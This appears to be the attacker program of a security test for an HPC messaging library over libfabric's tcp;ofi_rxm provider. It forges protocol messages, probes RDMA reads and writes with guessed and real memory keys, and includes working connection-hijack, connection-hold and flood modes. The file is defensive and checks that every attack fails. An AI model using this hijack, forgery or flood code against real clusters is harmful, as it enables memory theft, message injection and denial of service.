// The outsider of the outsider test (outsider.sh): a process that is not
// part of the job (another user id where the test can arrange it) opens its
// own libfabric tcp endpoint, connects to a rank's port and tries what the
// wire format would allow a forger: messages of every kind with claimed
// ranks (0, 1, huge) in the high half of the immediate data, put_to headers
// naming an unregistered and a registered buffer, forged completion
// handles, rendezvous and control messages, truncated and oversized
// messages, garbage; and RDMA reads and writes at those buffers with
// guessed keys (0 ... 63 and random ones) and with the registered buffer's
// real keys (the one peers name it by, and the provider's own), as an
// outsider that read them off the wire would.
//
// It succeeds (exit 0) when no RDMA operation of its own completed without
// error: a completed read would have leaked the rank's memory, a completed
// write would have changed it (the job checks its bytes as well). The
// messages cannot be checked from here; the job counts them as dropped.
//
// Usage: outsider_attacker <ip> <port> <secret> <target> <handle> <key> <provider key>
//   (addresses, handle and keys in decimal, as the job wrote them)
//        outsider_attacker --hijack <ip> <rank 0's port> <rank 1's port>
//   (takes rank 1's connection at rank 0 over; see namespace hijack)
//        outsider_attacker --hold <ip> <rank 0's port> <rank 1's port> <seconds>
//   (takes it over and holds it, silent; see hijack::hold)
//        outsider_attacker --flood <ip> <port> <count>
//   (count 32-byte messages as fast as the connection takes them: the
//   memory a flood makes a rank hold, docs/security.md; measured by hand)
#include <arpa/inet.h>
#include <netinet/in.h>
#include <rdma/fabric.h>
#include <rdma/fi_cm.h>
#include <rdma/fi_domain.h>
#include <rdma/fi_endpoint.h>
#include <rdma/fi_errno.h>
#include <rdma/fi_rma.h>

#include <sys/uio.h>
#include <unistd.h>

#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <random>
#include <vector>

namespace {

// The wire format's header: | kind:4 | endpoint:12 | tag:16 |.
uint32_t imm(uint32_t kind, uint32_t endpoint, uint32_t tag) {
  return kind << 28 | (endpoint & 0xfffu) << 16 | (tag & 0xffffu);
}
enum : uint32_t { k_short = 0, k_medium = 1, k_rts = 2, k_am_short = 3, k_am_short_c = 4,
                  k_am_medium = 5, k_am_medium_c = 6, k_put_to = 7, k_rts_alloc = 8,
                  k_notify = 9, k_write_imm = 14, k_control = 15 };

[[noreturn]] void die(const char* what, int rc) {
  fprintf(stderr, "attacker: %s failed: %s (%d)\n", what, fi_strerror(-rc), rc);
  exit(2);
}
void check(int rc, const char* what) {
  if (rc) die(what, rc);
}

double now_s() {
  return std::chrono::duration<double>(std::chrono::steady_clock::now().time_since_epoch()).count();
}

struct attacker {
  fid_fabric* fabric = nullptr;
  fid_domain* domain = nullptr;
  fid_cq* cq = nullptr;
  fid_av* av = nullptr;
  fid_ep* ep = nullptr;
  fid_mr* mr = nullptr;
  fi_info* info = nullptr;
  fi_addr_t victim = FI_ADDR_UNSPEC;
  std::vector<char> buf = std::vector<char>(size_t(128) << 10, 'X');
  void* desc = nullptr;
  long sends = 0, send_errors = 0, rma = 0, rma_completed = 0, rma_errors = 0, rma_lost = 0;
  long stray = 0;  // completions of operations already given up on
  long unconnected = 0;  // RDMA failed because the rank had closed the connection

  const char* ip_ = nullptr;
  int port_ = 0;
  // A new connection (the rank closes one that misbehaved).
  void reconnect() {
    close();
    fabric = nullptr, domain = nullptr, cq = nullptr, av = nullptr, ep = nullptr, mr = nullptr;
    info = nullptr;
    open(ip_, port_);
  }

  void open(const char* ip, int port) {
    ip_ = ip, port_ = port;
    fi_info* hints = fi_allocinfo();
    hints->ep_attr->type = FI_EP_RDM;
    hints->caps = FI_MSG | FI_RMA | FI_READ | FI_WRITE;
    hints->domain_attr->mr_mode = FI_MR_LOCAL | FI_MR_VIRT_ADDR | FI_MR_ALLOCATED | FI_MR_PROV_KEY;
    hints->domain_attr->data_progress = FI_PROGRESS_MANUAL;
    hints->fabric_attr->prov_name = strdup("tcp;ofi_rxm");
    check(fi_getinfo(FI_VERSION(1, 14), nullptr, nullptr, 0, hints, &info), "fi_getinfo");
    fi_freeinfo(hints);
    check(fi_fabric(info->fabric_attr, &fabric, nullptr), "fi_fabric");
    check(fi_domain(fabric, info, &domain, nullptr), "fi_domain");
    fi_cq_attr cq_attr{};
    cq_attr.format = FI_CQ_FORMAT_DATA;
    check(fi_cq_open(domain, &cq_attr, &cq, nullptr), "fi_cq_open");
    fi_av_attr av_attr{};
    av_attr.type = FI_AV_TABLE;
    check(fi_av_open(domain, &av_attr, &av, nullptr), "fi_av_open");
    check(fi_endpoint(domain, info, &ep, nullptr), "fi_endpoint");
    check(fi_ep_bind(ep, &cq->fid, FI_TRANSMIT | FI_RECV), "fi_ep_bind(cq)");
    check(fi_ep_bind(ep, &av->fid, 0), "fi_ep_bind(av)");
    check(fi_enable(ep), "fi_enable");
    check(fi_mr_reg(domain, buf.data(), buf.size(), FI_SEND | FI_RECV | FI_READ | FI_WRITE, 0, 0,
                    0, &mr, nullptr),
          "fi_mr_reg");
    desc = fi_mr_desc(mr);
    sockaddr_in sin{};
    sin.sin_family = AF_INET;
    sin.sin_port = htons(static_cast<uint16_t>(port));
    if (inet_pton(AF_INET, ip, &sin.sin_addr) != 1) die("inet_pton", -FI_EINVAL);
    if (fi_av_insert(av, &sin, 1, &victim, 0, nullptr) != 1) die("fi_av_insert", -FI_EINVAL);
  }

  // Each operation's context is its own sequence number, so that a
  // completion is matched to the operation it belongs to.
  uintptr_t seq = 0;
  void* next_context() { return reinterpret_cast<void*>(++seq); }

  // Waits (bounded) for the completion of the operation with context `ctx`;
  // returns its error (0: success), or 1 if none came. Completions of
  // other (earlier) operations are skipped.
  int wait_for(void* ctx, double seconds) {
    const double end = now_s() + seconds;
    fi_cq_data_entry e;
    while (now_s() < end) {
      ssize_t n = fi_cq_read(cq, &e, 1);
      if (n == 1) {
        if (e.op_context == ctx) return 0;
        ++stray;
      } else if (n == -FI_EAVAIL) {
        fi_cq_err_entry err{};
        if (fi_cq_readerr(cq, &err, 0) != 1) continue;
        if (err.op_context == ctx) return err.err ? err.err : -1;
        ++stray;
      }
    }
    return 1;
  }

  // Closes everything open() made, in reverse order.
  void close() {
    for (fid* f : {mr ? &mr->fid : nullptr, ep ? &ep->fid : nullptr, av ? &av->fid : nullptr,
                   cq ? &cq->fid : nullptr, domain ? &domain->fid : nullptr,
                   fabric ? &fabric->fid : nullptr})
      if (f) fi_close(f);
    if (info) fi_freeinfo(info);
  }

  // Posts with `call`, retrying (bounded) while the provider says try again
  // (the connection is being made, the queue is full).
  template <typename Call>
  ssize_t post(Call call) {
    const double end = now_s() + 5;
    ssize_t rc;
    while ((rc = call()) == -FI_EAGAIN && now_s() < end) {
      fi_cq_data_entry e;
      if (fi_cq_read(cq, &e, 1) == -FI_EAVAIL) {
        fi_cq_err_entry err{};
        fi_cq_readerr(cq, &err, 0);
      }
    }
    return rc;
  }

  // Sends one message.
  void send(uint32_t header, uint32_t high, const void* data, size_t len) {
    if (len > buf.size()) len = buf.size();
    if (data != buf.data()) memcpy(buf.data(), data, len);
    const uint64_t cq_data = static_cast<uint64_t>(high) << 32 | header;
    void* ctx = next_context();
    const ssize_t rc = post([&] {
      return fi_senddata(ep, buf.data(), len, desc, cq_data, victim, ctx);
    });
    ++sends;
    if (rc) {
      ++send_errors;
      return;
    }
    if (wait_for(ctx, 5) != 0) ++send_errors;
  }

  // One RDMA read or write with a guessed key, on a new connection if the
  // rank had closed the last one; counts how it ended.
  void try_rma(int what, uint64_t address, uint64_t key) {
    if (try_rma_once(what, address, key) == FI_ENOTCONN) {
      --rma, --rma_errors, --unconnected;
      reconnect();
      try_rma_once(what, address, key);
    }
  }
  int try_rma_once(int what, uint64_t address, uint64_t key) {
    void* ctx = next_context();
    const ssize_t rc = post([&] {
      if (what == 0) return fi_read(ep, buf.data(), 64, desc, victim, address, key, ctx);
      // Writes complete only once the target has processed them
      // (FI_DELIVERY_COMPLETE): a plain write may complete as soon as its
      // bytes left, before the target refused the key.
      iovec iov{buf.data(), 64};
      fi_rma_iov rma{address, 64, key};
      fi_msg_rma msg{};
      msg.msg_iov = &iov;
      msg.desc = &desc;
      msg.iov_count = 1;
      msg.addr = victim;
      msg.rma_iov = &rma;
      msg.rma_iov_count = 1;
      msg.context = ctx;
      msg.data = imm(k_write_imm, 0, 1);
      return fi_writemsg(ep, &msg,
                         FI_COMPLETION | FI_DELIVERY_COMPLETE | (what == 2 ? FI_REMOTE_CQ_DATA : 0));
    });
    ++rma;
    if (rc) {
      ++rma_errors;
      if (rc == -FI_ENOTCONN) ++unconnected;
      return static_cast<int>(-rc);
    }
    const int r = wait_for(ctx, 5);
    if (r == 0) {
      ++rma_completed;
      printf("attacker: %s of 64 bytes at %#llx with key %#llx completed (first bytes read: %.8s)\n",
             what == 0 ? "read" : what == 1 ? "write" : "writedata",
             static_cast<unsigned long long>(address), static_cast<unsigned long long>(key),
             what == 0 ? buf.data() : "-");
    }
    else if (r == 1)
      ++rma_lost;
    else if (r == FI_ENOTCONN)
      ++rma_errors, ++unconnected;
    else
      ++rma_errors;
    return r;
  }
};

std::vector<char> words(std::initializer_list<uint64_t> v) {
  std::vector<char> out;
  for (uint64_t x : v) {
    const char* p = reinterpret_cast<const char*>(&x);
    out.insert(out.end(), p, p + sizeof(x));
  }
  return out;
}

}  // namespace

// ---- hijack: take over rank 1's connection at rank 0 ------------------------
//
// tcp;ofi_rxm names the peer of an incoming connection from its source IP
// and the listening port given in the connection request's data (rxm.h,
// union rxm_cm_data::connect), and replaces a live connection from that
// peer with the new one. This mode connects a plain msg endpoint to rank
// 0's port claiming rank 1's port, reads what rank 0 then sends to "rank
// 1" (rxm packets: a 32-byte control header, a 32-byte operation header
// whose `data` is the CQ data, then the payload) and sends rank 0 forged
// messages built from the captured ones: the header's tag one higher (the
// tag rank 0 receives from rank 1 next), the payload 'F' bytes, the rest as
// captured (the job token and, with authentication, a trailer made for the
// other direction). The job must never accept one (outsider_job checks
// every byte it receives).
namespace hijack {

// rxm's connection request data (libfabric 1.17, rxm.h).
struct cm_connect {
  uint8_t version, endianness, ctrl_version, op_version;
  uint16_t port;
  uint8_t flow_ctrl, padding;
  uint32_t eager_limit, rx_size;
  uint64_t client_conn_id;
};
struct cm_accept {
  uint64_t server_conn_id;
  uint32_t rx_size;
  uint8_t flow_ctrl, pad[3];
};
// ofi_proto.h: control header and operation header of each rxm packet.
struct ctrl_hdr {
  uint8_t version, type;
  uint16_t seg_size;
  uint32_t seg_no;
  uint64_t conn_id, msg_id, ctrl_data;
};
struct op_hdr {
  uint8_t version, rx_index, op, op_data;
  uint32_t flags;
  uint64_t size, data, tag;
};
constexpr size_t pkt_hdr = sizeof(ctrl_hdr) + sizeof(op_hdr);

struct conn {
  fid_fabric* fabric = nullptr;
  fid_domain* domain = nullptr;
  fid_eq* eq = nullptr;
  fid_cq* cq = nullptr;
  fid_ep* ep = nullptr;
  fi_info* info = nullptr;
  uint64_t server_conn_id = 0;
};

// One connection attempt with these versions; true once connected.
bool try_connect(conn& c, const char* ip, int port, int claimed, uint8_t ctrl_v, uint8_t op_v,
                 uint32_t eager) {
  fi_info* hints = fi_allocinfo();
  hints->ep_attr->type = FI_EP_MSG;
  hints->caps = FI_MSG;
  hints->domain_attr->mr_mode = FI_MR_LOCAL | FI_MR_VIRT_ADDR | FI_MR_ALLOCATED | FI_MR_PROV_KEY;
  hints->fabric_attr->prov_name = strdup("tcp");
  char service[16];
  snprintf(service, sizeof service, "%d", port);
  if (fi_getinfo(FI_VERSION(1, 14), ip, service, 0, hints, &c.info)) die("fi_getinfo(msg)", -FI_ENODATA);
  fi_freeinfo(hints);
  check(fi_fabric(c.info->fabric_attr, &c.fabric, nullptr), "fi_fabric");
  fi_eq_attr eq_attr{};
  eq_attr.wait_obj = FI_WAIT_UNSPEC;
  check(fi_eq_open(c.fabric, &eq_attr, &c.eq, nullptr), "fi_eq_open");
  check(fi_domain(c.fabric, c.info, &c.domain, nullptr), "fi_domain");
  fi_cq_attr cq_attr{};
  cq_attr.format = FI_CQ_FORMAT_DATA;
  check(fi_cq_open(c.domain, &cq_attr, &c.cq, nullptr), "fi_cq_open");
  check(fi_endpoint(c.domain, c.info, &c.ep, nullptr), "fi_endpoint");
  check(fi_ep_bind(c.ep, &c.eq->fid, 0), "fi_ep_bind(eq)");
  check(fi_ep_bind(c.ep, &c.cq->fid, FI_TRANSMIT | FI_RECV), "fi_ep_bind(cq)");
  check(fi_enable(c.ep), "fi_enable");
  cm_connect cm{};
  cm.version = 1;
  cm.endianness = 2;  // little-endian
  cm.ctrl_version = ctrl_v;
  cm.op_version = op_v;
  cm.port = static_cast<uint16_t>(claimed);
  cm.flow_ctrl = 2;  // peer's flow control off
  cm.eager_limit = eager;
  cm.rx_size = 1024;
  cm.client_conn_id = static_cast<uint64_t>(getpid()) << 32;
  check(fi_connect(c.ep, c.info->dest_addr, &cm, sizeof cm), "fi_connect");
  const double end = now_s() + 3;
  while (now_s() < end) {
    alignas(8) char buf[sizeof(fi_eq_cm_entry) + 64];
    uint32_t event = 0;
    ssize_t n = fi_eq_read(c.eq, &event, buf, sizeof buf, 0);
    if (n == -FI_EAVAIL) {
      fi_eq_err_entry err{};
      fi_eq_readerr(c.eq, &err, 0);
      return false;
    }
    if (n > 0 && event == FI_CONNECTED) {
      if (static_cast<size_t>(n) >= sizeof(fi_eq_cm_entry) + sizeof(cm_accept)) {
        cm_accept acc;
        memcpy(&acc, buf + sizeof(fi_eq_cm_entry), sizeof acc);
        c.server_conn_id = acc.server_conn_id;
      }
      return true;
    }
  }
  return false;
}

void close(conn& c) {
  for (fid* f : {c.ep ? &c.ep->fid : nullptr, c.cq ? &c.cq->fid : nullptr,
                 c.domain ? &c.domain->fid : nullptr, c.eq ? &c.eq->fid : nullptr,
                 c.fabric ? &c.fabric->fid : nullptr})
    if (f) fi_close(f);
  if (c.info) fi_freeinfo(c.info);
  c = conn{};
}

int run(const char* ip, int port, int claimed) {
  // rxm refuses a request whose versions or eager limit differ from its
  // own: find them, then connect again each time rank 1 takes its
  // connection back (it reconnects when rank 0 closes it).
  conn c;
  uint8_t ctrl_v = 0, op_v = 0;
  uint32_t eager = 0;
  for (uint32_t e : {16384u, 16320u, 8192u, 65536u})
    for (uint8_t cv : {4, 3, 5})
      for (uint8_t ov : {3, 2, 4}) {
        if (eager) break;
        if (try_connect(c, ip, port, claimed, cv, ov, e)) {
          ctrl_v = cv, op_v = ov, eager = e;
          printf("attacker: connected to rank 0 claiming port %d (rxm versions %u/%u, eager "
                 "limit %u)\n", claimed, cv, ov, e);
        } else {
          close(c);
        }
      }
  if (!eager) {
    printf("attacker: rank 0 accepted no connection claiming port %d\n", claimed);
    return 0;
  }
  constexpr int nbufs = 32;
  constexpr size_t bufsize = size_t(1) << 16;
  std::vector<std::vector<char>> bufs(nbufs, std::vector<char>(bufsize));
  long captured = 0, forged = 0, connections = 1;
  const double end = now_s() + 20;
  std::vector<char> out;
  while (now_s() < end && forged < 8) {
    if (!c.ep) {
      if (!try_connect(c, ip, port, claimed, ctrl_v, op_v, eager)) {
        close(c);
        continue;
      }
      ++connections;
    }
    for (int i = 0; i < nbufs; ++i)
      fi_recv(c.ep, bufs[static_cast<size_t>(i)].data(), bufsize, nullptr, 0,
              reinterpret_cast<void*>(static_cast<uintptr_t>(i + 1)));
    // Receive what rank 0 now sends to "rank 1", until it closes.
    while (now_s() < end && forged < 8) {
      fi_cq_data_entry e;
      ssize_t n = fi_cq_read(c.cq, &e, 1);
      if (n == -FI_EAVAIL) {
        fi_cq_err_entry err{};
        fi_cq_readerr(c.cq, &err, 0);
        continue;
      }
      if (n != 1) {
        uint32_t event;
        alignas(8) char ebuf[256];
        ssize_t en = fi_eq_read(c.eq, &event, ebuf, sizeof ebuf, 0);
        if (en == -FI_EAVAIL) {
          fi_eq_err_entry err{};
          fi_eq_readerr(c.eq, &err, 0);
          break;
        }
        if (en > 0 && event == FI_SHUTDOWN) break;
        continue;
      }
      if (!(e.flags & FI_RECV)) continue;
      const size_t i = reinterpret_cast<uintptr_t>(e.op_context) - 1;
      std::vector<char>& b = bufs[i];
      ctrl_hdr ch;
      op_hdr oh;
      memcpy(&ch, b.data(), sizeof ch);
      memcpy(&oh, b.data() + sizeof ch, sizeof oh);
      if (e.len >= pkt_hdr) ++captured;
      if (e.len >= pkt_hdr && oh.op == 0 && oh.size + pkt_hdr <= e.len && oh.size >= 64) {
        const uint32_t header = static_cast<uint32_t>(oh.data);
        printf("attacker: captured a %llu-byte message for rank 1, CQ data %#llx (job token "
               "%#x, tag %u)\n", static_cast<unsigned long long>(oh.size),
               static_cast<unsigned long long>(oh.data), static_cast<unsigned>(oh.data >> 32),
               header & 0xffffu);
        // Forge "rank 1's" message: next tag, 'F' bytes, the rest as captured.
        out.assign(b.data(), b.data() + pkt_hdr + oh.size);
        ch.conn_id = c.server_conn_id;
        oh.data = (oh.data & ~uint64_t{0xffff}) | ((header + 1) & 0xffffu);
        memcpy(out.data(), &ch, sizeof ch);
        memcpy(out.data() + sizeof ch, &oh, sizeof oh);
        memset(out.data() + pkt_hdr, 'F', oh.size - 32);
        ssize_t rc;
        const double until = now_s() + 2;
        while ((rc = fi_send(c.ep, out.data(), out.size(), nullptr, 0, nullptr)) == -FI_EAGAIN &&
               now_s() < until) {
          fi_cq_data_entry x;
          fi_cq_read(c.cq, &x, 1);
        }
        if (rc == 0) ++forged;
      }
      fi_recv(c.ep, b.data(), bufsize, nullptr, 0, e.op_context);
    }
    close(c);
  }
  printf("attacker: hijack: %ld connections, %ld packets captured, %ld forged messages sent "
         "to rank 0\n", connections, captured, forged);
  close(c);
  return 0;
}

// --hold: takes rank 1's connection at rank 0 over as above, then holds it
// for `seconds` without reading or sending anything, and closes it. Both
// ranks are alive all along: with LCI_PEER_FAILURE=continue neither may
// declare the other failed, and nothing sent may be lost.
int hold(const char* ip, int port, int claimed, double seconds) {
  conn c;
  for (uint32_t e : {16384u, 16320u, 8192u, 65536u})
    for (uint8_t cv : {4, 3, 5})
      for (uint8_t ov : {3, 2, 4}) {
        if (try_connect(c, ip, port, claimed, cv, ov, e)) {
          printf("attacker: holding rank 1's connection at rank 0 (claimed port %d) for %g s\n",
                 claimed, seconds);
          fflush(stdout);
          usleep(static_cast<useconds_t>(seconds * 1e6));
          close(c);
          return 0;
        }
        close(c);
      }
  printf("attacker: rank 0 accepted no connection claiming port %d\n", claimed);
  return 0;
}

}  // namespace hijack

// --flood: `count` messages of 32 bytes (a claimed rank 1, a short
// message's header), up to 64 in flight, as fast as the connection takes
// them; returns once all were sent.
int flood(const char* ip, int port, long count) {
  attacker a;
  a.open(ip, port);
  std::vector<char> m(32, 'F');
  long posted = 0, done = 0;
  const double end = now_s() + 240;
  while (done < count && now_s() < end) {
    while (posted < count && posted - done < 64) {
      memcpy(a.buf.data() + 32 * (posted % 64), m.data(), m.size());
      const ssize_t rc = fi_senddata(a.ep, a.buf.data() + 32 * (posted % 64), m.size(), a.desc,
                                     uint64_t{1} << 32 | imm(k_short, 0, 1), a.victim, nullptr);
      if (rc == -FI_EAGAIN) break;
      if (rc) die("fi_senddata", static_cast<int>(rc));
      ++posted;
    }
    fi_cq_data_entry e[64];
    const ssize_t n = fi_cq_read(a.cq, e, 64);
    if (n > 0) done += n;
    if (n == -FI_EAVAIL) {
      fi_cq_err_entry err{};
      if (fi_cq_readerr(a.cq, &err, 0) == 1) ++done;
    }
  }
  printf("attacker: flood: %ld of %ld messages sent\n", done, count);
  a.close();
  return done == count ? 0 : 1;
}

int main(int argc, char** argv) {
  if (argc == 5 && strcmp(argv[1], "--hijack") == 0)
    return hijack::run(argv[2], atoi(argv[3]), atoi(argv[4]));
  if (argc == 6 && strcmp(argv[1], "--hold") == 0)
    return hijack::hold(argv[2], atoi(argv[3]), atoi(argv[4]), atof(argv[5]));
  if (argc == 5 && strcmp(argv[1], "--flood") == 0)
    return flood(argv[2], atoi(argv[3]), atol(argv[4]));
  if (argc != 8) {
    fprintf(stderr, "usage: outsider_attacker <ip> <port> <secret> <target> <handle> <key> "
                    "<provider key>\n");
    return 2;
  }
  const uint64_t secret = strtoull(argv[3], nullptr, 10);
  const uint64_t target = strtoull(argv[4], nullptr, 10);
  const uint64_t handle = strtoull(argv[5], nullptr, 10);
  const uint64_t real_keys[] = {strtoull(argv[6], nullptr, 10), strtoull(argv[7], nullptr, 10)};
  std::mt19937_64 rng(12345);
  long real_completed = 0, real_refused = 0, real_unconnected = 0;
  {
    // The real keys first, each operation on a connection of its own (the
    // rank closes a connection that misbehaved), at the buffer they name:
    // by address, and by offset for providers that address registrations
    // that way.
    for (uint64_t key : real_keys)
      for (uint64_t address : {target, uint64_t{0}})
        for (int what = 0; what < 3; ++what) {
          attacker r;
          r.open(argv[1], atoi(argv[2]));
          r.try_rma(what, address, key);
          real_completed += r.rma_completed;
          real_refused += r.rma_errors - r.unconnected;
          real_unconnected += r.unconnected;
          r.close();
        }
    printf("attacker: with the registered buffer's real keys (%#llx, provider's %#llx): %ld "
           "RDMA operations completed, %ld refused, %ld found no connection\n",
           static_cast<unsigned long long>(real_keys[0]),
           static_cast<unsigned long long>(real_keys[1]), real_completed, real_refused,
           real_unconnected);
  }
  attacker a;
  a.open(argv[1], atoi(argv[2]));

  // Claimed ranks and token guesses in the high half of the immediate data.
  const uint32_t highs[] = {0, 1, 2, 0x7fffffffu, 0xffffffffu, static_cast<uint32_t>(rng())};
  std::vector<char> payload(64, 'E');
  auto with_trailer = [&](uint64_t address, uint64_t comp) {
    std::vector<char> m = payload;
    std::vector<char> t = words({address, comp});
    m.insert(m.end(), t.begin(), t.end());
    return m;
  };
  std::vector<char> short_c(32, 'E');
  {
    std::vector<char> t = words({0, handle});
    short_c.insert(short_c.end(), t.begin(), t.end());
  }
  struct forged {
    uint32_t header;
    std::vector<char> bytes;
  };
  std::vector<forged> messages = {
      {imm(k_put_to, 0, 1), with_trailer(secret, 0)},
      {imm(k_put_to, 0, 2), with_trailer(target, 0)},
      {imm(k_put_to, 0, 3), with_trailer(target, handle)},
      {imm(k_put_to, 0, 4), with_trailer(target, 0x4141414141414141ull)},
      {imm(k_am_medium_c, 0, 5), with_trailer(0, handle)},
      {imm(k_am_medium_c, 0, 6), with_trailer(0, secret)},
      {imm(k_am_short_c, 0, 7), short_c},
      {imm(k_am_short, 0, 8), std::vector<char>(32, 'E')},
      {imm(k_am_medium, 0, 9), payload},
      {imm(k_short, 0, 10), std::vector<char>(32, 'E')},
      {imm(k_medium, 0, 11), payload},
      {imm(k_rts, 0, 12), words({1, uint64_t(1) << 40, 0, 0})},
      {imm(k_rts_alloc, 0, 13), words({1, uint64_t(1) << 20, handle, 0})},
      {imm(k_rts_alloc, 0, 14), words({2, 4096, 0, 0})},
      {imm(k_notify, 0, 15), words({0, target, secret, 64, 0, 1 /* LCI_LONG */})},
      {imm(k_notify, 0, 16), words({handle, 0, secret, 64, 1, 4 /* LCI_IOVEC */})},
      {imm(k_control, 1, 0), words({0, 0, 1, secret, 0, 64})},   // RTR
      {imm(k_control, 2, 0), words({0})},                        // FIN
      {imm(k_control, 3, 0), words({1})},                        // NACK
      {imm(k_control, 4, 0), words({0, 1000})},                  // gfence
      {imm(k_control, 5, 0), words({0, 0x4545454545454545ull})}, // getv reply
      {imm(k_control, 6, 0), words({0})},                        // abort
      {imm(k_write_imm, 0, 0), payload},
  };
  for (const forged& m : messages)
    for (uint32_t high : highs) {
      a.send(m.header, high, m.bytes.data(), m.bytes.size());
      // Truncated: every prefix shorter than a header.
      for (size_t cut : {size_t(0), size_t(1), size_t(7), size_t(15)})
        if (cut < m.bytes.size()) a.send(m.header, high, m.bytes.data(), cut);
    }
  // Longer than any receive buffer of the rank.
  a.send(imm(k_medium, 0, 20), 1, a.buf.data(), a.buf.size());
  a.send(imm(k_put_to, 0, 21), 1, a.buf.data(), size_t(64) << 10);
  // Garbage.
  std::vector<char> junk(256);
  for (int i = 0; i < 200; ++i) {
    for (char& c : junk) c = static_cast<char>(rng());
    a.send(static_cast<uint32_t>(rng()), static_cast<uint32_t>(rng()), junk.data(),
           rng() % junk.size());
  }
  const long messages_sent = a.sends, message_errors = a.send_errors;

  // RDMA with guessed keys at both buffers.
  std::vector<uint64_t> keys;
  for (uint64_t k = 0; k < 64; ++k) keys.push_back(k);
  for (int i = 0; i < 16; ++i) keys.push_back(rng());
  for (uint64_t key : keys)
    for (uint64_t address : {secret, target})
      for (int what = 0; what < 3; ++what) a.try_rma(what, address, key);

  printf("attacker: %ld messages sent (%ld not accepted by the transport), %ld RDMA "
         "operations: %ld completed, %ld failed, %ld without completion (%ld late completions)\n",
         messages_sent, message_errors, a.rma, a.rma_completed, a.rma_errors, a.rma_lost, a.stray);
  a.close();
  if (a.rma_completed || real_completed) {
    printf("attacker: FAILED: an RDMA operation of an outsider completed\n");
    return 1;
  }
  printf("attacker: no RDMA operation with a guessed or a real key completed\n");
  return 0;
}
